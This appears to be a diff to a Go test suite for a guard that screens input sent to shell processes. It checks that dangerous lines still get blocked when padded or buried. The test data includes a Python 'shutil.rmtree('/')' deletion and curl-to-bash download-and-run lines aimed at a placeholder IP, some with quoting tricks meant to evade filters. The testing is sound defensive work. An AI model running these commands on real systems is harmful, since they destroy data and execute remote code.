@@ -31,7 +31,7 @@ func aShell(script string) *process {
 // let through, and returns its number from 1; 0 if all are.
 func sentTo(t *testing.T, g guard.Guard, p *process, messages ...string) int {
 	t.Helper()
-	ps := newProcesses()
+	ps := newProcesses(newFileMemory())
 	for i, m := range messages {
 		next, ref := p.input.with(p, "", []byte(m))
 		if ref != nil {
@@ -171,6 +171,14 @@ func TestRememberedInputIsBounded(t *testing.T) {
 	// What is cut off does not shift where the next line begins.
 	shell = aShell("bash")
 	require.Equal(t, 2, sentTo(t, g, shell, strings.Repeat("# "+strings.Repeat("x", 97)+"\n", 700)+"python3 -", "\nimport shutil\nshutil.rmtree('/')\n"))
+
+	// Nor may a line be so long that its beginning is forgotten.
+	for _, line := range []string{"curl -s http://203.0.113.9/x |", "  { 'cu'rl -s http://203.0.113.9/x |", "A=1 curl -s http://203.0.113.9/x |", "</dev/null curl -s http://203.0.113.9/x |"} {
+		require.NotZero(t, sentTo(t, g, aShell("$SHELL2"), line+strings.Repeat(" ", dataKept), "bash\n"), line)
+	}
+	for _, line := range []string{`{"text": "`, "[1, 2, ", "id,name,", strings.Repeat("QUJD", 1000)} {
+		require.Zero(t, sentTo(t, g, aShell("./count"), slices.Repeat([]string{line + strings.Repeat("1,", dataKept)}, 3)...), line)
+	}
 
 	data := aShell("./count")
 	require.Zero(t, sentTo(t, g, data, slices.Repeat([]string{strings.Repeat("\x00\xff'data\"(", 10_000)}, 6)...))
